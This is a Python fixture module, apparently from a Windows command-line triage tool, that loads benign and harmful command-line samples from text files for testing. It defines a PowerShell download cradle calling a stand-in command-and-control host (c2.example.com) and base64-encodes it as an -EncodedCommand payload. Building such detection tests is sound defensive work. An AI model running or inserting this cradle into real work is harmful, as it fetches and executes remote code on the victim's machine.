"""The command lines of the text files beside this one."""

from __future__ import annotations

import base64
from pathlib import Path

from triage.windows.traits import Trait

_HERE = Path(__file__).parent
_DOWNLOADS = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a')"


def encoded(script: str) -> str:
    """A script as ``-EncodedCommand`` takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _lines(name: str) -> list[str]:
    text = (_HERE / name).read_text("utf-8").replace("{ENCODED}", encoded(_DOWNLOADS))
    return [line for line in text.split("\n") if line and not line.startswith("#")]


def benign() -> list[str]:
    return _lines("benign_lines.txt")


def harmful() -> list[tuple[str, frozenset[Trait]]]:
    rows = [line.split("\t", 1) for line in _lines("harmful_lines.txt")]
    return [(line, frozenset(Trait[name] for name in names.split())) for names, line in rows]


def programs() -> list[tuple[str, str]]:
    return [(line, name) for name, line in (row.split("\t", 1) for row in _lines("programs.txt"))]
